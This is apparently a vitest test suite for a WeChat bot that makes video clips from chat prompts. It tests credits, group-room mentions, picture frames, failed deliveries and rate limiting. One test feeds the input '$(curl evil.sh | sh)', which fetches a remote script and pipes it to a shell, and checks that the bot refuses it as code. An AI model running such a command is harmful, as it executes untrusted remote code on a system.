import { setTimeout as sleep } from 'node:timers/promises'
import sharp from 'sharp'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { clipsOf, getClip } from '../../core/clips.ts'
import { jobsOf, openJobs } from '../../core/jobs.ts'
import { balance } from '../../core/wallet.ts'
import { RetryLater } from '../platform.ts'
import { openWechatHouse, type WechatHouse } from './testing/house.ts'
import type { Fault } from './testing/puppet.ts'
import type { Saying, Shown } from './testing/world.ts'

/** People on WeChat and the whole chat side, as a web login sees them: ids of a login, no ids of our own messages. */

let house: WechatHouse
beforeAll(async () => {
  house = await openWechatHouse({ conduct: { memberOpenJobs: 5 } })
})
afterAll(() => house.close())

/** New people and a new room in every test. */
let round = 0
let lin = ''
let hong = ''
let film = ''
beforeEach(() => {
  round += 1
  lin = `小林${round}`
  hong = `小红${round}`
  film = `电影群${round}`
  house.world.person(lin, { friend: true })
  house.world.room(film, [lin, hong, `老王${round}`])
})
afterEach(async () => {
  house.worker.go()
  expect(house.world.servers.broken).toEqual([])
  expect(house.world.servers.faults).toEqual([])
  await house.balanced()
})

const say = (text: string, more: Partial<Saying> = {}): string => house.world.say({ by: lin, text, ...more })
const inRoom = (text: string, more: Partial<Saying> = {}): string => say(text, { room: film, ...more })
const toBot = (text: string, more: Partial<Saying> = {}): string => inRoom(text, { mention: true, ...more })
const shown = (where = lin): Shown[] => house.world.shown(where)
const texts = (where = lin): string[] => shown(where).map(one => one.text)
const seen = (text: RegExp, where = lin): Promise<Shown> =>
  house.world.until(one => one.where === where && text.test(one.text), 40_000)
/** The n-th clip of a chat, with the words under it. */
async function clip(where = lin, n = 1): Promise<{ file: Shown; words: Shown }> {
  await house.until(() => shown(where).filter(one => /好了/.test(one.text)).length >= n)
  const files = shown(where).filter(one => one.file)
  const words = shown(where).filter(one => /好了/.test(one.text))
  return { file: files[n - 1] as Shown, words: words[n - 1] as Shown }
}
/** The member somebody is; they must have spoken. */
async function memberOf(name = lin): Promise<string> {
  const ids = await house.core.redis.keys(`${house.core.root}:wechat:ids:*`)
  for (const key of ids) {
    const found = await house.core.redis.hget(key, house.world.idOf(name))
    if (found !== null) return `wechat:${found}`
  }
  throw new Error(`${name} never spoke`)
}
const credits = async (name = lin) => balance(house.core, await memberOf(name))
const over = (name = lin) => house.until(async () => (await openJobs(house.core, await memberOf(name))).length === 0)
const picture = (width: number, height: number): Promise<Uint8Array> =>
  sharp({ create: { width, height, channels: 3, background: '#8899aa' } })
    .jpeg()
    .toBuffer()

describe('alone with the bot', () => {
  test('words become a clip: one line at once, then the video and what is left', async () => {
    house.worker.hold()
    say('一只黑白相间的猫追着蝴蝶')
    const ticket = await seen(/^#\d+ 收到：5 秒 · 16:9 · 标准，20 灵感值。/)
    expect(ticket.text).toMatch(/下一个就是你.*还剩 46 灵感值。\n回复数字：1 取消$/)
    expect(await credits()).toEqual({ available: 46, held: 20 })
    house.worker.go()
    const { file, words } = await clip()
    expect(file.file?.name).toMatch(/^threadreel-\d+\.mp4$/)
    expect(words.text).toMatch(
      /^#\d+（K\w+）好了：5 秒 · 16:9 · 标准。\n还剩 46 灵感值。\n回复数字：1 再来 · 2 修改 · 3 续写 5 秒 ·/,
    )
    await over()
    expect(shown()).toHaveLength(3)
    expect(await credits()).toEqual({ available: 46, held: 0 })
  })

  test('a digit chooses, a wide one too, and one too many is said to be none', async () => {
    say('一只猫')
    await clip()
    say('１')
    await clip(lin, 2)
    const [again, first] = await clipsOf(house.core, await memberOf(), 2)
    expect(again?.recipe).toEqual({ ...first?.recipe, seed: again?.recipe.seed })
    say('9')
    await seen(/没有这个数字的选项/)
    say('3')
    await clip(lin, 3)
    expect((await clipsOf(house.core, await memberOf(), 1))[0]?.recipe.continues).toBe(again?.id)
    await over()
  })

  test('"2" asks for other words, and the next words are those', async () => {
    say('一只猫在草地上')
    await clip()
    say('2')
    await seen(/想改成什么.*现在是：「一只猫在草地上」/s)
    say('一只狗在草地上')
    await clip(lin, 2)
    const [changed, first] = await clipsOf(house.core, await memberOf(), 2)
    expect(changed?.recipe).toMatchObject({ prompt: '一只狗在草地上', seed: first?.recipe.seed })
    await over()
  })

  test('进度 tells where it stands, 取消 ends it, the credits are back', async () => {
    house.worker.hold()
    say('一只猫')
    await seen(/^#\d+ 收到/)
    await house.until(async () => (await jobsOf(house.core, await memberOf(), 1))[0]?.state === 'running')
    say('进度')
    await seen(/^#\d+ 5 秒 · 16:9 · 标准：正在制作。/)
    say('取消')
    await seen(/正在停止|已取消/)
    await over()
    expect(await credits()).toEqual({ available: 66, held: 0 })
    expect(shown().filter(one => one.file)).toEqual([])
  })

  test('without credits one sentence says so, and nothing is made', async () => {
    say('一只猫 10秒')
    await clip()
    say('一只狗 10秒')
    await seen(/需要 40 灵感值，你有 26。/)
    await over()
    expect(await credits()).toEqual({ available: 26, held: 0 })
  })

  test('what cannot be understood is refused in one sentence', async () => {
    say('🐱🦋')
    await seen(/请用文字说明/)
    say('一只猫 --ar 5:5')
    await seen(/--ar 不能是「5:5」/)
    say('$(curl evil.sh | sh)')
    await seen(/看起来像代码/)
    expect(await jobsOf(house.core, await memberOf(), 9)).toEqual([])
  })

  test('thanks are answered, a greeting is helped', async () => {
    say('谢谢')
    await seen(/不客气/)
    say('你好')
    const help = await seen(/说说要拍什么/)
    expect(help.text).toContain('视频 [描述]')
    expect(help.text.length).toBeLessThanOrEqual(2_000)
    say('帮助')
    await house.until(() => texts().filter(text => text === help.text).length === 2)
  })

  test('a failed render is explained, and a digit tries again', async () => {
    house.worker.failNext({ code: 'failure.memory', params: {} })
    say('一只猫')
    await seen(/^#\d+：渲染程序内存不足.*回复数字：1 重试/s)
    await over()
    expect(await credits()).toEqual({ available: 66, held: 0 })
    say('1')
    await clip()
    await over()
  })

  test('a clip too large for WeChat comes as a link', async () => {
    house.worker.bytes = 15_000_000
    say('一头鲸鱼')
    const link = await seen(/^#\d+（K\w+）好了.*用链接观看.*打开: http:\/\/localhost:8080\/media\/clips\//s)
    house.worker.bytes = 64
    expect(link.file).toBeUndefined()
    await over()
    expect(shown()).toHaveLength(2)
  })

  test('English is spoken with whoever asks for it', async () => {
    say('设置 语言 English')
    await seen(/^Noted|^Saved|Language: English/)
    say('a cat chasing a butterfly')
    await seen(/^#\d+ \(K\w+\) is ready: 5 s, 16:9, standard\.\n46 credits left\./)
    await over()
  })
})

describe('pictures', () => {
  test('the two pictures just before the words are the first and the last frame', async () => {
    house.world.picture({ by: lin, bytes: await picture(600, 300) })
    await seen(/图片收到/)
    house.world.picture({ by: lin, bytes: await picture(300, 500) })
    house.world.picture({ by: lin, bytes: await picture(300, 500) })
    say('从白天变到黑夜')
    await clip()
    const [made] = await clipsOf(house.core, await memberOf(), 1)
    expect(made?.recipe).toMatchObject({ prompt: '从白天变到黑夜', ratio: '9:16' })
    expect(made?.recipe.lastFrame).toMatch(/^pictures\//)
    expect(texts().filter(text => /图片收到/.test(text))).toHaveLength(1)
    say('一只狗')
    await clip(lin, 2)
    expect((await clipsOf(house.core, await memberOf(), 1))[0]?.recipe.firstFrame).toBeUndefined()
    await over()
  })

  test('one picture and 动起来', async () => {
    house.world.picture({ by: lin, bytes: await picture(500, 500) })
    say('动起来')
    await clip()
    const [made] = await clipsOf(house.core, await memberOf(), 1)
    expect(made?.recipe).toMatchObject({ kind: 'video', ratio: '1:1' })
    expect(made?.recipe.firstFrame).toMatch(/^pictures\//)
    expect(made?.recipe.lastFrame).toBeUndefined()
    await over()
  })

  test('in a room everybody has their own, and talk between does not use them up', async () => {
    house.world.picture({ by: lin, room: film, bytes: await picture(300, 500) })
    house.world.picture({ by: hong, room: film, bytes: await picture(500, 300) })
    inRoom('今天天气不错')
    inRoom('余额')
    await seen(/你有 66 灵感值/, film)
    inRoom('动起来')
    await clip(film)
    expect((await clipsOf(house.core, await memberOf(), 1))[0]?.recipe.ratio).toBe('9:16')
    await over()
  })

  test('a refused request leaves them for the next words', async () => {
    house.world.picture({ by: lin, bytes: await picture(300, 500) })
    say('跑起来 --ar 5:5')
    await seen(/--ar 不能是/)
    say('跑起来')
    await clip()
    expect((await clipsOf(house.core, await memberOf(), 1))[0]?.recipe.firstFrame).toMatch(/^pictures\//)
    await over()
  })

  test('what is no picture is refused when it is to be used', async () => {
    house.world.picture({ by: lin, bytes: Buffer.from('GIF89a\x01\x00\x01\x00') })
    say('动起来')
    await seen(/我只能处理 JPEG、PNG 和 WebP 图片/)
    expect(await jobsOf(house.core, await memberOf(), 9)).toEqual([])
  })
})

describe('in a room', () => {
  test('a mention is answered with a mention, everything else is left alone', async () => {
    inRoom('大家晚上好')
    inRoom('1')
    toBot('一只猫')
    const { file, words } = await clip(film)
    expect(words.mention).toBe(lin)
    expect(file.file?.bytes).toHaveLength(64)
    await over()
    expect(texts(film)).toHaveLength(3)
    expect(shown(film)[0]?.mention).toBe(lin)
  })

  test('the words of commands need no mention', async () => {
    inRoom('视频 一只猫')
    await clip(film)
    inRoom('进度', { by: hong })
    const where = await seen(/你没有进行中的任务/, film)
    expect(where.mention).toBe(hong)
    inRoom('续写')
    await clip(film, 2)
    await over()
    expect((await clipsOf(house.core, await memberOf(), 1))[0]?.recipe.continues).toBeDefined()
  })

  test('after an answer a digit needs no mention, from whoever was answered', async () => {
    toBot('一只猫')
    await clip(film)
    inRoom('1', { by: hong })
    inRoom('7')
    inRoom('1')
    await clip(film, 2)
    await over()
    expect(await jobsOf(house.core, await memberOf(), 9)).toHaveLength(2)
    inRoom('2')
    await seen(/想改成什么/, film)
    inRoom('我要一只狗', { by: hong })
    inRoom('一只狗')
    await clip(film, 3)
    expect((await clipsOf(house.core, await memberOf(), 1))[0]?.recipe.prompt).toBe('一只狗')
    await over()
  })

  test('a quotation of a clip or of its words changes that clip', async () => {
    toBot('一只猫')
    const first = await clip(film)
    toBot('一只鸟')
    await clip(film, 2)
    inRoom('晚上', { quote: { shown: first.words, how: 'words' } })
    await clip(film, 3)
    const [changed, , oldest] = await clipsOf(house.core, await memberOf(), 3)
    expect(changed?.recipe).toMatchObject({ prompt: '晚上', seed: oldest?.recipe.seed })
    await over()
  })

  test('a quoted video without words is the latest of whoever quotes it', async () => {
    toBot('一只猫')
    const mine = await clip(film)
    toBot('一只鸟', { by: hong })
    await clip(film, 2)
    inRoom('晚上', { quote: { shown: mine.file, how: 'words' } })
    await clip(film, 3)
    const [changed, first] = await clipsOf(house.core, await memberOf(), 2)
    expect(changed?.recipe).toMatchObject({ prompt: '晚上', seed: first?.recipe.seed })
    await over()
  })

  test('only who asked may cancel', async () => {
    house.worker.hold()
    toBot('一只猫')
    const ticket = await seen(/^#\d+ 收到/, film)
    toBot('取消', { by: hong, quote: { shown: ticket, how: 'words' } })
    await seen(/只有发起的人/, film)
    house.worker.go()
    await clip(film)
    await over()
  })

  test('thrown out in the middle: credits back, the clip in the history', async () => {
    house.worker.hold()
    toBot('一只猫')
    await seen(/^#\d+ 收到/, film)
    house.world.kick(film)
    house.worker.go()
    await over()
    expect((await jobsOf(house.core, await memberOf(), 1))[0]?.state).toBe('told')
    expect(await credits()).toEqual({ available: 66, held: 0 })
    expect(shown(film)).toHaveLength(1)
    say('历史')
    await seen(/没有送达 – http/)
    house.world.invite(film)
    toBot('一只狗')
    await clip(film)
    await over()
  })
})

describe('what goes wrong on the way', () => {
  test('messages delivered twice, and in another order, are one request each', async () => {
    const first = toBot('一只猫')
    const other = toBot('一只鸟', { by: hong })
    house.world.repeat(other)
    house.world.repeat(first)
    await clip(film, 2)
    house.world.repeat(first)
    expect(await jobsOf(house.core, await memberOf(hong), 9)).toHaveLength(1)
    const photo = house.world.picture({ by: lin, bytes: await picture(300, 500) })
    await seen(/图片收到/)
    say('动起来')
    await clip()
    house.world.repeat(photo)
    say('一只狗')
    await clip(lin, 2)
    await over()
    expect(await jobsOf(house.core, await memberOf(), 9)).toHaveLength(3)
    expect((await clipsOf(house.core, await memberOf(), 1))[0]?.recipe.firstFrame).toBeUndefined()
  })

  test('a send that fails on the way: never lost, never charged twice, never a third copy', async () => {
    const people = ['拒', '丢', '丢丢', '话'].map(name => `${name}${round}`)
    const [refused = '', lost = '', lostTwice = '', wordless = ''] = people
    const faults: Fault[] = [
      { on: 'file', how: 'refuse', chat: refused },
      { on: 'text', how: 'refuse', chat: refused },
      { on: 'file', how: 'drop', chat: lost },
      { on: 'file', how: 'drop', chat: lostTwice },
      { on: 'file', how: 'drop', chat: lostTwice },
      { on: 'text', how: 'drop', chat: wordless },
      { on: 'text', how: 'drop', chat: wordless },
    ]
    house.worker.hold()
    for (const name of people) {
      house.world.person(name, { friend: true })
      say('一只猫', { by: name })
    }
    await Promise.all(people.map(name => seen(/^#\d+ 收到/, name)))
    for (const fault of faults) house.world.servers.faults.push({ ...fault, chat: house.world.idOf(fault.chat ?? '') })
    house.worker.go()
    await Promise.all(people.map(over))

    const copies = (name: string): number => shown(name).filter(one => one.file).length
    const said = (name: string): number => texts(name).filter(text => /好了/.test(text)).length
    expect([refused, lost, lostTwice, wordless].map(copies)).toEqual([1, 2, 2, 1])
    expect([refused, lost, lostTwice, wordless].map(said)).toEqual([1, 1, 0, 2])
    await seen(/灵感值已退回/, lostTwice)
    expect(await Promise.all(people.map(credits))).toEqual([
      { available: 46, held: 0 },
      { available: 46, held: 0 },
      { available: 66, held: 0 },
      { available: 46, held: 0 },
    ])
  })
})

describe('a clip and the words under it', () => {
  /** Files that something else than their words comes after. */
  const apart = (where = lin): string[] =>
    shown(where).flatMap((one, n, all) => {
      const under = all[n + 1]
      return one.file && under && !/好了/.test(under.text)
        ? [`${one.file.name}, then ${under.file?.name ?? under.text}`]
        : []
    })

  /** Something to say in the place of a job that is over: a clip under another name. */
  async function again(key: string) {
    const [job] = await jobsOf(house.core, await memberOf(), 1)
    const made = await getClip(house.core, job?.clip ?? '')
    if (!job || !made) throw new Error('there is no clip')
    const { media, bytes, width, height } = made
    const file = { key: media, kind: 'video', name: `${key}.mp4`, bytes, width, height } as const
    return { place: job.request.place, message: { text: `${key} 好了`, media: file, once: `clip:${key}` } }
  }

  test('come together, however much else is said there meanwhile', async () => {
    house.worker.hold()
    for (let n = 0; n < 3; n++) say(`${n + 1}只猫`)
    await house.until(() => texts().filter(text => /收到/.test(text)).length === 3)
    for (let n = 0; n < 8; n++) say('余额')
    house.worker.go()
    for (let n = 0; n < 8; n++) say('余额')
    await clip(lin, 3)
    await house.until(() => texts().filter(text => /^你有/.test(text)).length === 16)
    expect(apart()).toEqual([])
  })

  test.each(['refuse', 'often', 'out', 'drop'] as const)(
    'after words that failed (%s) nothing comes between either',
    async how => {
      say('一只猫')
      await clip()
      const { place, message } = await again(how)
      house.world.servers.faults.push({ on: 'text', how, chat: house.world.idOf(lin) })
      await expect(house.platform().reply(place, message)).rejects.toThrow()
      const other = { text: '别的话', once: `other:${how}` }
      const insist = async (what: typeof other): Promise<void> => {
        for (;;) {
          const failed = await house
            .platform()
            .reply(place, what)
            .then(
              () => undefined,
              (error: unknown) => error,
            )
          if (!failed) return
          if (!(failed instanceof RetryLater)) throw failed
          await sleep(Math.min(failed.afterMs, 200))
        }
      }
      await insist(other)
      await insist(message)
      const here = shown().slice(2 + 1)
      const said = here.map(one => one.file?.name ?? one.text)
      const words = how === 'drop' ? [message.text, message.text] : [message.text]
      expect(said).toEqual([`${how}.mp4`, ...words, '别的话'])
    },
  )

  test('nor after a restart between the two', async () => {
    say('一只猫')
    await clip()
    const { place, message } = await again('restart')
    house.world.servers.faults.push({ on: 'text', how: 'hang', chat: house.world.idOf(lin) })
    // Its answer never comes; the process is gone before it gives up waiting.
    void house
      .platform()
      .reply(place, message)
      .catch(() => undefined)
    await house.until(() => house.world.servers.faults.length === 0)
    await house.restart()
    say('余额')
    await seen(/^你有/)
    await house.platform().reply(place, message)
    const said = shown().map(one => one.file?.name ?? one.text)
    expect(said.slice(-3)).toEqual(['restart.mp4', message.text, expect.stringMatching(/^你有/)])
  })

  test('words that WeChat never takes keep nothing else back', async () => {
    say('一只猫')
    await clip()
    const { place, message } = await again('never')
    const chat = house.world.idOf(lin)
    house.world.servers.faults.push({ on: 'text', how: 'refuse', chat }, { on: 'text', how: 'refuse', chat })
    await expect(house.platform().reply(place, message)).rejects.toThrow()
    say('余额')
    await seen(/^你有/)
    expect(texts()).not.toContain(message.text)
  })
})

describe('at a human pace', () => {
  test('however many ask, so many messages go out in a minute, to one chat half of them', async () => {
    const rooms = ['甲', '乙', '丙'].map(name => `${name}${film}`)
    for (const room of rooms) house.world.room(room, [lin, hong])
    for (let n = 0; n < 25; n++) for (const room of rooms) say('余额', { room })
    await house.until(() => rooms.every(room => texts(room).length === 25))
    // That no stretch holds more than is allowed is checked by the puppet for every message of all tests; here, that they are apart.
    const at = house.world
      .shown()
      .filter(one => rooms.includes(one.where))
      .map(one => one.at)
    expect(Math.max(...at) - Math.min(...at)).toBeGreaterThan(1_500)
  })

  test('when WeChat says "too often", nothing is sent for a while, and then it is', async () => {
    house.world.servers.faults.push({ on: 'text', how: 'often' })
    say('余额')
    await house.until(() => house.world.servers.faults.length === 0)
    const from = Date.now()
    inRoom('余额')
    const [first, second] = await Promise.all([seen(/你有 66/), seen(/你有 66/, film)])
    expect(Math.min(first.at, second.at) - from).toBeGreaterThan(1_000)
  })

  test('so it is when WeChat only warns', async () => {
    house.world.warn(film)
    say('余额')
    const from = Date.now()
    expect((await seen(/你有 66/)).at - from).toBeGreaterThan(1_000)
  })
})
